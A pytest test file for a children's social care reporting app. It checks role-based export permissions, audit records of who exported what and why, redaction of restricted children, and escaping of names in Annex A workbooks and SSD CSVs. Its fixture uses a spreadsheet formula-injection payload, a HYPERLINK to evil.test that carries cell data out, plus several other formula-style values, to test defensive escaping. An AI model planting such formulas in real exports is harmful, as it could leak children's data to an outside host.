"""Who may export child-level data, what every export records, and spreadsheet cells that cannot run (issue 16 item 9),
through the Annex A workbook (item 5) and the SSD extract (item 8)."""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from cases import policy
from cases.models import AuditEvent, CinReferral, Episode, EpisodeLead, LeadKind, Role
from reporting.annex_a.lists import LISTS, Window
from reporting.annex_a.workbook import write_annex_a
from reporting.models import ExportRecord, ReturnRun, RunKind, RunStatus
from reporting.permissions import EXPORT
from reporting.ssd.extract import write_ssd
from reporting.tasks import build_return
from tests.factories import TeamFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"Open")'
CHILD_KINDS = (RunKind.ANNEX_A, RunKind.SSD)


def _referred_child(make_person, council):
    """A child named as a formula, referred to children's social care ten days ago, whose lead practitioner and team
    are named as formulas too."""
    today = timezone.localdate()
    child = make_person(first=FORMULA, last="+SUM(1,1)", dob=dt.date(2016, 4, 1))
    team = TeamFactory(agency=council, name="@SUM(A1:A9)")
    worker = UserFactory(agency=council, full_name="-2+3 cmd", roles=[Role.FHLP], teams=[team])
    episode = Episode.objects.create(person=child, opened_on=today - dt.timedelta(days=10))
    EpisodeLead.objects.create(
        episode=episode, kind=LeadKind.FHLP, user=worker, started_at=timezone.now() - dt.timedelta(days=9)
    )
    CinReferral.objects.create(
        person=child, episode=episode, referral_date=today - dt.timedelta(days=10), source_code="6"
    )
    return child, worker, team


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_only_managers_and_performance_officers_export_child_level_data():
    assert policy.role_actions()[EXPORT] == {Role.MANAGER, Role.PERFORMANCE_OFFICER}


@pytest.mark.parametrize("role", sorted(Role.values))
@pytest.mark.parametrize("kind", CHILD_KINDS)
def test_a_role_runs_and_downloads_a_child_level_export_exactly_when_the_table_says(role, kind, client, council):
    """Starting a run, its page, its progress and its download: 404 for every role the policy table refuses."""
    allowed = role in policy.role_actions()[EXPORT]
    user = UserFactory(agency=council, roles=[role])
    owner = UserFactory(agency=council, roles=[Role.MANAGER])
    done = ReturnRun.objects.create(
        kind=kind,
        period="all" if kind == RunKind.SSD else "2025-26",
        purpose="Inspection",
        requested_by=owner,
        status=RunStatus.DONE,
        filename="f.bin",
        content_type="application/octet-stream",
        content=__import__("gzip").compress(b"x"),
        size=1,
        rows=1,
    )
    client.force_login(user)
    reports = client.get(reverse("reporting:reports"))
    start = client.post(reverse("reporting:run_start", args=[kind]), {})
    page = client.get(reverse("reporting:run", args=[done.pk]))
    status = client.get(reverse("reporting:run_status", args=[done.pk]))
    download = client.get(reverse("reporting:run_download", args=[done.pk]))
    if allowed:
        assert (reports.status_code, start.status_code) == (200, 400)
        assert (page.status_code, status.status_code, download.status_code) == (200, 200, 200)
        assert ExportRecord.objects.filter(user=user, run=done).count() == 1
    else:
        assert {start.status_code, page.status_code, status.status_code, download.status_code} == {404}
        assert reports.status_code == 404 or kind not in reports.content.decode()
        assert not ExportRecord.objects.filter(user=user).exists()


def test_running_and_downloading_annex_a_records_who_what_how_many_rows_and_why(client, make_person, council):
    manager = UserFactory(agency=council, roles=[Role.MANAGER], full_name="Mia Manager")
    _referred_child(make_person, council)
    client.force_login(manager)
    form = client.get(reverse("reporting:reports")).context["sections"]
    annex = next(s for s in form if s["builder"].kind == RunKind.ANNEX_A)
    period = annex["form"].fields["period"].initial
    response = client.post(
        reverse("reporting:run_start", args=[RunKind.ANNEX_A]),
        {f"{RunKind.ANNEX_A}-period": period, f"{RunKind.ANNEX_A}-purpose": "Ofsted ILACS inspection, week 1"},
    )
    assert response.status_code == 302, response.context["errors"]
    run = ReturnRun.objects.get(kind=RunKind.ANNEX_A)
    assert run.requested_by == manager
    run = build_return(run.pk)
    assert run.status == RunStatus.DONE, run.error
    assert run.summary["lists"]["List 3"] == 1 and run.rows >= 1
    download = client.get(reverse("reporting:run_download", args=[run.pk]))
    assert download.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert book.sheetnames == [f"List {n}" for n in range(1, 12)]
    record = ExportRecord.objects.get(run=run)
    assert (record.user, record.kind, record.format, record.rows, record.purpose, record.period) == (
        manager,
        RunKind.ANNEX_A,
        "xlsx",
        run.rows,
        "Ofsted ILACS inspection, week 1",
        period,
    )
    audit = AuditEvent.objects.get(verb="reporting.exported")
    assert audit.actor_id == manager.pk and audit.reason == "Ofsted ILACS inspection, week 1"


def test_a_formula_in_a_name_comes_out_as_text_in_the_annex_a_workbook(make_person, council):
    child, worker, team = _referred_child(make_person, council)
    today = timezone.localdate()
    out = io.BytesIO()
    counts = write_annex_a(out, window=Window(today - dt.timedelta(days=30), today), user=None)
    assert counts["List 3"] == 1 and counts["List 6"] == 1
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = list(_cells(book))
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # nothing a spreadsheet would run
    referrals = list(book["List 3"].iter_rows(values_only=True))
    headings = dict(zip(referrals[0], referrals[1], strict=True))
    assert headings["Allocated Worker"] == "'-2+3 cmd"
    assert headings["Allocated Team"] == "'@SUM(A1:A9)"
    assert headings["Child Unique ID"] == child.la_child_id
    assert headings["Referral Source"] == "q) 6: Police"
    # Annex A names no child: the formula of the name is nowhere in the workbook.
    assert not [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [annex.sheet for annex in LISTS] == book.sheetnames


def _ssd_tables(data: bytes) -> dict[str, list[dict]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name.removesuffix(".csv"): list(csv.DictReader(io.TextIOWrapper(archive.open(name), encoding="utf-8")))
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def test_a_formula_in_a_name_comes_out_as_text_in_the_ssd_csv(make_person, council):
    from cases.models import CaseNote

    child, worker, team = _referred_child(make_person, council)
    seen = timezone.now() - dt.timedelta(days=2)
    CaseNote.objects.create(
        person=child,
        author=worker,
        status=CaseNote.Status.FINAL,
        finalised_at=seen,
        kind=CaseNote.Kind.VISIT,
        occurred_at=seen,
        subject="Home visit",
        body="Saw the child at home.",
        child_seen=True,
        child_seen_alone=True,
    )
    out = io.BytesIO()
    write_ssd(out, user=None)
    tables = _ssd_tables(out.getvalue())
    person = next(r for r in tables["ssd_person"] if r["pers_person_id"] == child.la_child_id)
    assert person["pers_forename"] == "'" + FORMULA
    assert person["pers_surname"] == "'+SUM(1,1)"
    professional = next(r for r in tables["ssd_professionals"] if r["prof_professional_id"] == str(worker.pk))
    assert professional["prof_professional_name"] == "'-2+3 cmd"
    department = next(r for r in tables["ssd_department"] if r["dept_team_id"] == str(team.pk))
    assert department["dept_team_name"] == "'@SUM(A1:A9)"
    visit = next(r for r in tables["ssd_cin_visits"] if r["cinv_person_id"] == child.la_child_id)
    assert (visit["cinv_cin_visit_seen"], visit["cinv_cin_visit_seen_alone"]) == ("Y", "Y")
    assert visit["cinv_cin_visit_date"].startswith(timezone.localdate(seen).isoformat())
    cells = [value for rows in tables.values() for row in rows for value in row.values()]
    assert not [v for v in cells if v and v[0] in "=+-@"]  # nothing a spreadsheet would run


def test_a_restricted_child_appears_in_the_ssd_by_id_and_codes_only(make_person, council, privacy_officer):
    from cases.models import Address
    from cases.services import person_restrict

    child, _worker, _team = _referred_child(make_person, council)
    Address.objects.create(person=child, line1="1 Hidden Road", postcode="ZZ1 1ZZ")
    child.nhs_number = "9990001112"
    child.save(update_fields=["nhs_number"])
    person_restrict(person=child, actor=privacy_officer, reason="high_profile", access_users=[])
    manager = UserFactory(agency=council, roles=[Role.MANAGER])
    out = io.BytesIO()
    write_ssd(out, user=manager)
    tables = _ssd_tables(out.getvalue())
    person = next(r for r in tables["ssd_person"] if r["pers_person_id"] == child.la_child_id)
    assert (person["pers_forename"], person["pers_surname"], person["pers_common_child_id"]) == ("", "", "")
    assert person["pers_sex"] == child.sex and person["pers_dob"] == child.date_of_birth.isoformat()
    assert not [r for r in tables["ssd_address"] if r["addr_person_id"] == child.la_child_id]
    assert not [r for r in tables["ssd_linked_identifiers"] if r["link_person_id"] == child.la_child_id]
    assert [r["cine_person_id"] for r in tables["ssd_cin_episodes"]] == [child.la_child_id]
